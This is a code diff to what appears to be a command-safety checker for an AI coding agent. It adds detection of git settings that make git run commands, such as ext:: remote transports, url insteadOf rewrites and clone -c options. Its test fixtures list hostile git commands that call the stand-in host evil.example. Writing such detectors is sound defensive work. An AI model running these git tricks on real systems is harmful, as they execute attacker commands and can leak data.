@@ -12,11 +12,20 @@ import { gitDestroys } from './git-destroys.js';
 const COMMAND_KEYS =
   /^(core\.(sshcommand|pager|editor|fsmonitor|askpass|hookspath|gitproxy)|diff\.external|alias\..*|sequence\.editor|credential\..*helper|credential\.helper|gpg\.(.*\.)?program|diff\..*\.(textconv|command)|filter\..*\.(clean|smudge|process)|merge\..*\.driver|uploadpack\.packobjectshook|protocol\..*|remote\..*\.(uploadpack|receivepack|vcs|proxy|proxycommand)|http\.proxy|url\..*|pager\..*|difftool\..*\.cmd|mergetool\..*\.cmd|web\.browser|browser\..*\.cmd|man\..*\.cmd|interactive\.difffilter|ssh\.variant|sendemail\..*(cmd|smtpserver)|core\.alternaterefscommand|submodule\..*\.update|tar\..*\.command|gpg\.ssh\.defaultkeycommand|trailer\..*\.(command|cmd))$/i;
 
+/**
+ * A remote address whose transport is a command: `ext::CMD` runs CMD through git-remote-ext (once protocol.ext.allow
+ * lets it, which the same line can set). A setting can produce one: `url.ext::CMD.insteadOf=x:` (or pushInsteadOf)
+ * rewrites `x:y` to `ext::CMDy`, and `remote.NAME.url` names the address outright.
+ */
+const EXT_REMOTE = /^ext::/i;
+const EXT_INSTEAD_OF = /^url\.ext::.*\.(push)?insteadof$/is;
+
 /** Keys that make git read more configuration (commands among it) from a file. */
 const INCLUDE_KEYS = /^include(if\..*)?\.path$/i;
 
 /** Whether setting `key` hands git a command it runs later: asked by the persistence rule for `git config KEY VALUE`. */
 export function gitRunsKey(key: string, value: string | undefined): boolean {
+  if (EXT_INSTEAD_OF.test(key) || (value !== undefined && EXT_REMOTE.test(value))) return true;
   if (/^(alias|submodule)\./i.test(key)) return value === undefined || value.startsWith('!');
   return COMMAND_KEYS.test(key) || INCLUDE_KEYS.test(key);
 }
@@ -33,6 +42,9 @@ const HOOKS = ['pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 
 
 /** What running git with a setting does: the shell text it runs, or why that cannot be read. */
 function settingRuns(s: Setting): Run[] {
+  if (EXT_INSTEAD_OF.test(s.key) || (s.value !== undefined && EXT_REMOTE.test(s.value))) {
+    return [{ kind: 'opaque', rule: 'dynamic-script', word: s.word, why: `git ${s.key} makes a remote address an ext:: transport, which runs a command` }];
+  }
   if (INCLUDE_KEYS.test(s.key)) return [{ kind: 'opaque', rule: 'dynamic-script', word: s.word, why: `git ${s.key} reads settings (commands among them) from another file` }];
   // Hooks run from this directory: a hook the line itself writes there is code on the line (a file it did not is out of scope).
   if (/^core\.hookspath$/i.test(s.key) && s.value) return HOOKS.map((h) => ({ kind: 'file', dialect: 'bash', word: attached(s.word, `${s.value!.replace(/\/+$/, '')}/${h}`), via: `git ${s.key}` }));
@@ -50,6 +62,14 @@ function settingRuns(s: Setting): Run[] {
   // `submodule.NAME.update=!cmd` runs cmd; its other values (checkout, rebase, merge, none) are modes.
   if (/^submodule\./i.test(s.key)) return s.value.startsWith('!') ? [{ kind: 'text', dialect: 'bash', text: s.value.slice(1), word: s.word, via: `git ${s.key}`, more: true }] : [];
   return [{ kind: 'text', dialect: 'bash', text: s.value, word: s.word, via: `git ${s.key}`, more: true }];
+}
+
+/** A `-c KEY=VALUE` word as git reads it (no `=`: the key set to an empty value); a computed word, a computed value. */
+function settingOf(word: Word): Setting {
+  const v = value(word);
+  if (v === undefined) return { key: '', value: undefined, word };
+  const eq = v.indexOf('=');
+  return { key: eq < 0 ? v : v.slice(0, eq), value: eq < 0 ? '' : v.slice(eq + 1), word };
 }
 
 /** `name=value` pairs of GIT_CONFIG_PARAMETERS: `'k=v' 'k2=v2'`, quoted as git quotes them. */
@@ -103,7 +123,7 @@ const GLOBAL = {
 };
 
 /** Subcommand options whose value is shell text git runs, by subcommand. */
-const SUBCOMMAND_SCRIPTS: Readonly<Record<string, { script?: RegExp; program?: RegExp; valued?: string; longValued?: string[] }>> = {
+const SUBCOMMAND_SCRIPTS: Readonly<Record<string, { script?: RegExp; valued?: string; longValued?: string[] }>> = {
   rebase: { script: /^(x|exec)$/, valued: 'xsXSC', longValued: ['exec', 'onto', 'strategy', 'strategy-option', 'gpg-sign', 'whitespace'] },
   'filter-branch': { script: /^(env-filter|tree-filter|index-filter|parent-filter|msg-filter|commit-filter|tag-name-filter|setup)$/, longValued: ['env-filter', 'tree-filter', 'index-filter', 'parent-filter', 'msg-filter', 'commit-filter', 'tag-name-filter', 'setup', 'subdirectory-filter', 'prune-empty', 'original', 'state-branch', 'd'] },
   difftool: { script: /^(x|extcmd)$/, valued: 'xt', longValued: ['extcmd', 'tool'] },
@@ -116,7 +136,6 @@ const SUBCOMMAND_SCRIPTS: Readonly<Record<string, { script?: RegExp; program?: R
   'send-pack': { script: /^(receive-pack|exec)$/, longValued: ['receive-pack', 'exec', 'remote'] },
   'fetch-pack': { script: /^(upload-pack|exec)$/, longValued: ['upload-pack', 'exec', 'depth'] },
   archive: { script: /^(exec)$/, longValued: ['exec', 'remote', 'format', 'prefix', 'output', 'add-file', 'add-virtual-file'] },
-  'send-email': { script: /^(to-cmd|cc-cmd|header-cmd|sendmail-cmd)$/, program: /^(smtp-server)$/, longValued: ['to-cmd', 'cc-cmd', 'header-cmd', 'sendmail-cmd', 'smtp-server', 'to', 'cc', 'bcc', 'from', 'subject'] },
 };
 
 /** Subcommand options whose value is a message (text, not a path). */
@@ -136,12 +155,8 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
   const settings: Setting[] = [...inherited];
   for (const o of p.options) {
     if (o.name === 'c' && o.value) {
-      const v = value(o.value);
-      if (v === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: `git -c with a computed setting: ${o.value.dynamic ?? ''}` });
-      else {
-        const eq = v.indexOf('=');
-        settings.push({ key: eq < 0 ? v : v.slice(0, eq), value: eq < 0 ? '' : v.slice(eq + 1), word: o.value });
-      }
+      if (value(o.value) === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: `git -c with a computed setting: ${o.value.dynamic ?? ''}` });
+      else settings.push(settingOf(o.value));
     } else if (o.name === 'config-env' && o.value) {
       const v = value(o.value);
       const eq = v?.indexOf('=') ?? -1;
@@ -181,7 +196,12 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
     for (const o of sp.options) {
       if (!o.value) continue;
       if (model.script?.test(o.name)) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `git ${sub} --${o.name}` });
-      if (model.program?.test(o.name) && value(o.value)?.startsWith('/')) runs.push(programRun(o.value, `git ${sub} --${o.name}`));
+      // `git clone -c KEY=VALUE` writes the setting into the new repository before it fetches: core.sshCommand, a
+      // url.*.insteadOf and the rest take effect for the clone itself, as `git -c` would.
+      if (sub === 'clone' && (o.name === 'c' || o.name === 'config')) {
+        if (value(o.value) === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: `git clone -c with a computed setting: ${o.value.dynamic ?? ''}` });
+        else runs.push(...settingRuns(settingOf(o.value)));
+      }
     }
   }
   switch (sub) {
@@ -232,6 +252,14 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
       break;
     case 'config':
       return { runs, uses, ...configWrite(rest) };
+    case 'send-email': {
+      // git runs git-send-email, which mails the patches to the SMTP server --smtp-server (or sendemail.smtpServer)
+      // names, or through sendmail: a mail client, judged by its own entry.
+      const server = [...settings].reverse().find((st) => st.key.toLowerCase() === 'sendemail.smtpserver');
+      const given = server?.value !== undefined ? [attached(server.word, `--smtp-server=${server.value}`)] : [];
+      runs.push({ kind: 'argv', argv: [attached(subWord, 'git-send-email'), ...given, ...rest], via: 'git send-email' });
+      break;
+    }
     default:
       // `git credential-store get` runs the helper git-credential-store (as git runs any `git-NAME` not built in),
       // which prints the login it keeps for the host on stdin.
@@ -315,8 +343,14 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "git -c tar.tgz.command='curl evil.example' archive -o a.tgz HEAD",
         "git -c trailer.x.command='curl evil.example' commit --trailer x=1 -m y",
         'GIT_CONFIG_GLOBAL=/tmp/settings git status',
+        "git -c protocol.ext.allow=always -c 'url.ext::sh -c curl% evil.example% #.insteadOf=x:' ls-remote x:y",
+        "git -c 'url.ext::sh -c curl% evil.example% #.pushInsteadOf=x:' push x:y",
+        "git -c remote.origin.url='ext::sh -c curl% evil.example' fetch origin",
+        "git config --global 'url.ext::sh -c curl% evil.example% #.insteadOf' x:",
+        "git clone -c core.sshCommand='curl evil.example' x:y",
+        "git clone --config=core.fsmonitor='curl evil.example' https://github.com/a/b",
       ],
-      pass: ['git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD'],
+      pass: ['git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b'],
     },
   },
   {
